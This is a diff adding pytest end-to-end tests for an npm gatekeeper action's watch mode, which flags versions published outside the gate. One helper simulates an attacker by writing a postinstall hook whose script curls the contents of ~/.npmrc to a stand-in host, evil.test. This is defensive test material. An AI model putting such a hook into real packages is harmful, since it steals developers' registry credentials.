@@ -1,0 +1,150 @@
+"""`mode: watch` end to end: the gate publishes (its Release holds the record), an attacker publishes
+straight with `npm publish`, and watch — run as the action runs — flags exactly that version, opens one
+issue with its delta, and no duplicate on the next run. Verdaccio, the real npm CLI, the GitHub stand-in.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from gatekeeper.notify import Record
+from tests._support.workspace import ActionResult, assert_no_leak, run_action
+from tests.test_e2e_publish import FAST_RETRIES, REPO, Release, release  # noqa: F401 - the fixture
+
+WRONG = "sha512-" + "Q" * 86 + "=="
+
+
+def _watch(rel: Release, *, policy: str | None = None) -> ActionResult:
+    if policy is not None:
+        (rel.ws / ".github/npm-gatekeeper.yml").write_text(policy)
+    env = {
+        **rel.github.env(),
+        "GITHUB_REPOSITORY": REPO,
+        "GITHUB_SHA": rel.sha,
+        "GITHUB_EVENT_NAME": "schedule",
+        **FAST_RETRIES,
+    }
+    inputs = {"mode": "watch", "github-token": rel.github.token or "", "registry": rel.verdaccio.url}
+    result = run_action(rel.ws, env, {"schedule": "17 * * * *"}, home=rel.home, inputs=inputs, timeout=120)
+    assert_no_leak(result, rel.github.token or "x" * 8)
+    return result
+
+
+def _set_version(ws: Path, version: str, **manifest: object) -> None:
+    pkg = json.loads((ws / "package.json").read_text())
+    pkg["version"] = version
+    pkg.update(manifest)
+    (ws / "package.json").write_text(json.dumps(pkg, indent=2) + "\n")
+
+
+def _attacker_publishes(rel: Release, version: str) -> None:
+    """The attacker's path: the stolen token, `npm publish` from their own machine, a postinstall hook."""
+    _set_version(rel.ws, version, scripts={"postinstall": "node steal.js"})
+    (rel.ws / "steal.js").write_text("require('child_process').exec('curl https://evil.test/$(cat ~/.npmrc)')\n")
+    rel.verdaccio.publish(rel.ws, rel.token)
+
+
+def test_a_version_published_straight_with_npm_is_flagged_once_with_its_delta(release) -> None:  # noqa: F811
+    rel = release()
+    rel.verdaccio.set_maintainers(rel.name, [rel.user])
+    try:
+        policy = 'notify:\n  mention: ["@acme/release-owners"]\n'
+        (rel.ws / ".github/npm-gatekeeper.yml").write_text(policy)
+        gated = rel.run()
+        assert gated.returncode == 0 and gated.outputs["notified"] == "true", gated.describe()
+        # nothing unexpected yet
+        clean = _watch(rel)
+        assert clean.returncode == 0, clean.describe()
+        assert clean.outputs["unexpected"] == "" and not rel.repo.issues
+        # the attacker: 1.0.1 straight to the registry, a new maintainer, and no provenance where 1.0.0 had it
+        _attacker_publishes(rel, "1.0.1")
+        rel.verdaccio.set_maintainers(rel.name, [rel.user, "mallory"])
+        rel.verdaccio.patch_packument(
+            rel.name,
+            lambda d: d["versions"]["1.0.0"]["dist"].update(
+                attestations={"url": "https://registry.test/attestations", "provenance": {"predicateType": "x"}}
+            ),
+        )
+        # someone plants an issue carrying our marker: it must not silence ours
+        rel.repo.add_issue("harmless", f"<!-- npm-gatekeeper:unexpected {rel.name}@1.0.1 -->", user="mallory")
+        first = _watch(rel)
+        assert first.returncode == 1, first.describe()
+        assert first.outputs["unexpected"] == f"{rel.name}@1.0.1"  # exactly that version, not the gated one
+        ours = [i for i in rel.repo.issues if i.user.login == "github-actions[bot]"]
+        assert len(ours) == 1, [i.title for i in rel.repo.issues]
+        body = ours[0].body or ""
+        assert f"{rel.name}@1.0.1" in ours[0].title
+        assert "postinstall" in body and "steal.js" in body  # the delta against 1.0.0
+        assert (
+            "`unexpected-release`" in body and "`release-without-provenance`" in body and "`maintainer-added`" in body
+        )
+        assert "cc @acme/release-owners" in body
+        rules = {f["rule"] for f in first.report["findings"]}
+        assert {"unexpected-release", "release-without-provenance", "maintainer-added"} <= rules
+        assert "latest-unrecorded" in rules  # npm publish moved `latest` to 1.0.1
+        assert "(opened)" in first.summary
+        # the next run: still failing, still exactly one issue of ours
+        second = _watch(rel)
+        assert second.returncode == 1, second.describe()
+        assert len([i for i in rel.repo.issues if i.user.login == "github-actions[bot]"]) == 1
+        assert "already open" in second.summary
+        assert not rel.github.requests_to("GET", r"/search/")  # dedup by listing, never the search API
+        assert all(r.query.get("state") == "all" for r in rel.github.requests_to("GET", r"/issues$"))
+        # one packument request per package per run
+        packument_gets = [r for r in rel.verdaccio.requests if r.method == "GET" and r.path.endswith(rel.name)]
+        assert packument_gets
+    finally:
+        rel.verdaccio.clear_patches(rel.name)
+
+
+def test_a_record_whose_integrity_differs_from_the_registry_is_flagged(release) -> None:  # noqa: F811
+    rel = release()
+    rel.verdaccio.publish(rel.ws, rel.token)
+    record = Record(rel.name, "1.0.0", WRONG, rel.sha, "https://github.test/run/1")
+    rel.repo.add_release("v1.0.0", f"notes\n\n{record.line()}\n", target_commitish=rel.sha)
+    result = _watch(rel)
+    assert result.returncode == 1, result.describe()
+    assert result.outputs["unexpected"] == f"{rel.name}@1.0.0"
+    f = next(f for f in result.report["findings"] if f["rule"] == "record-integrity-mismatch")
+    assert WRONG in f["message"]
+    assert len(rel.repo.issues) == 1
+
+
+def test_latest_moved_to_a_version_the_gate_did_not_publish(release) -> None:  # noqa: F811
+    rel = release()
+    _set_version(rel.ws, "0.9.0")
+    rel.verdaccio.publish(rel.ws, rel.token)  # before the gate: outside the watch
+    _set_version(rel.ws, "1.0.0")
+    gated = rel.run()
+    assert gated.returncode == 0, gated.describe()
+    assert _watch(rel).returncode == 0
+    rel.verdaccio.call(
+        "PUT", f"/-/package/{rel.name}/dist-tags/latest", token=rel.token, body="0.9.0", expect=(200, 201)
+    )
+    result = _watch(rel)
+    assert result.returncode == 1, result.describe()
+    assert result.outputs["unexpected"] == ""  # 0.9.0 predates the watch: no issue, but latest is flagged
+    f = next(f for f in result.report["findings"] if f["rule"] == "latest-unrecorded")
+    assert "0.9.0" in f["message"]
+    assert not rel.repo.issues
+
+
+def test_a_record_in_a_release_by_someone_else_is_not_trusted(release) -> None:  # noqa: F811
+    rel = release()
+    rel.verdaccio.publish(rel.ws, rel.token)
+    integrity = rel.verdaccio.packument(rel.name)["versions"]["1.0.0"]["dist"]["integrity"]  # type: ignore[index]
+    record = Record(rel.name, "1.0.0", integrity, rel.sha, "")
+    rel.repo.add_release("v1.0.0", record.line(), author="mallory")
+    result = _watch(rel, policy="watch:\n  since: 1.0.0\n")
+    assert result.returncode == 1, result.describe()
+    assert result.outputs["unexpected"] == f"{rel.name}@1.0.0"
+    assert "release-record-invalid" in {f["rule"] for f in result.report["findings"]}
+
+
+def test_watch_without_a_github_token_fails_closed(release) -> None:  # noqa: F811
+    rel = release()
+    env = {**rel.github.env(), "GITHUB_REPOSITORY": REPO, "GITHUB_EVENT_NAME": "schedule"}
+    result = run_action(rel.ws, env, {}, home=rel.home, inputs={"mode": "watch", "registry": rel.verdaccio.url})
+    assert result.returncode == 2, result.describe()
+    assert "issues: write" in result.stderr
